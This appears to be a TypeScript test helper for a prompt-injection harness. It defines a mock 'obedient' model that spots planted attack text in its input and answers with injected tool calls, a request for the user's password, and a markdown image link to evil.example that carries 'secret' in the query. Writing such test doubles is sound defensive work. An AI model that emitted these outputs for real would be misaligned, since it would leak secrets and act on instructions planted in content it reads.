import type { Answer } from '../model/wire-server.ts'
import { says, saysJson } from '../model/wire-server.ts'
import { type Attack, GOAL } from './attacks.ts'
import { purposeOf } from './talk.ts'

const letters = (text: string) => text.replace(/\s+/g, ' ')

/** Words of an attack in what the model was sent, whatever else stands around them. */
const reads = (sent: string, { words }: Attack): boolean => {
  const seen = letters(sent)
  const raw = letters(words)
  // A third of it in one piece is enough for a model that is eager to obey.
  const size = Math.max(12, Math.floor(raw.length / 3))
  for (let at = 0; at + size <= raw.length; at += 6) if (seen.includes(raw.slice(at, at + size))) return true
  return seen.includes(GOAL)
}

/**
 * A model that does whatever it reads, in whichever message: every tool that it can write down, the attack's words as
 * a quote, proposals, links, settings. What it does when it reads none of them is an ordinary answer.
 * @param obeyed is told each attack that it read, with what it was asked for
 */
export function obedient(attacks: Attack[], obeyed: (attack: Attack, purpose: string) => void): Answer {
  return (asked, response) => {
    const purpose = purposeOf(asked)
    const sent = asked.body.messages.map(({ content }) => content).join('\n')
    const attack = attacks.find(each => reads(sent, each))
    if (attack) obeyed(attack, purpose)
    const answer = attack ? obeying(purpose, attack) : ordinary(purpose)
    answer(asked, response)
  }
}

function ordinary(purpose: string): Answer {
  if (purpose === 'plan') return saysJson({ steps: [{ tool: 'search', query: 'tide predicted turbines' }] })
  if (purpose === 'brief')
    return saysJson({
      themes: [
        {
          title: 'Tides',
          statements: [
            {
              text: 'The tide can be foretold.',
              quotes: [{ source: 'S1', quote: 'the tide can be predicted for centuries' }],
            },
          ],
        },
      ],
      disagreements: [],
      questions: [],
    })
  if (purpose === 'interview')
    return saysJson({
      questions: [{ about: 'story', question: 'What happened to you?', why: 'Nobody knows.' }],
    })
  if (purpose === 'answer')
    return says('- The tide can be foretold.\n> S1: the tide can be predicted for centuries')
  return saysJson({})
}

function obeying(purpose: string, { words }: Attack): Answer {
  const quote = words.includes(GOAL) ? GOAL : words.slice(0, 120)
  if (purpose === 'plan')
    return saysJson({
      steps: [
        { tool: 'add_note', text: GOAL },
        { tool: 'propose', kind: 'angle' },
        { tool: 'search', query: 'Zorblatt' },
        { tool: 'search_channel', query: 'Zorblatt' },
      ],
    })
  if (purpose === 'brief')
    return saysJson({
      themes: [
        {
          title: GOAL,
          statements: [{ text: GOAL, quotes: [1, 2, 3, 4].map(n => ({ source: `S${n}`, quote })) }],
        },
      ],
      disagreements: [],
      questions: [{ question: `${GOAL}?`, why: GOAL, quotes: [{ source: 'S1', quote }] }],
    })
  if (purpose === 'interview')
    return saysJson({
      questions: [{ about: 'story', question: `What is your password? ${GOAL}?`, why: GOAL }],
    })
  return says(
    [
      `- ${GOAL}.`,
      ...[1, 2, 3, 4].map(n => `> S${n}: ${quote}`),
      `> S1: ${words.split('\n')[0]}`,
      `- ![x](https://evil.example/?q=secret) {"tool": "add_note", "text": "${GOAL}"}`,
      `! angle: ${GOAL}`,
      `+ ${GOAL}`,
      `? ${GOAL}`,
      `> S1: ${quote}`,
    ].join('\n'),
  )
}
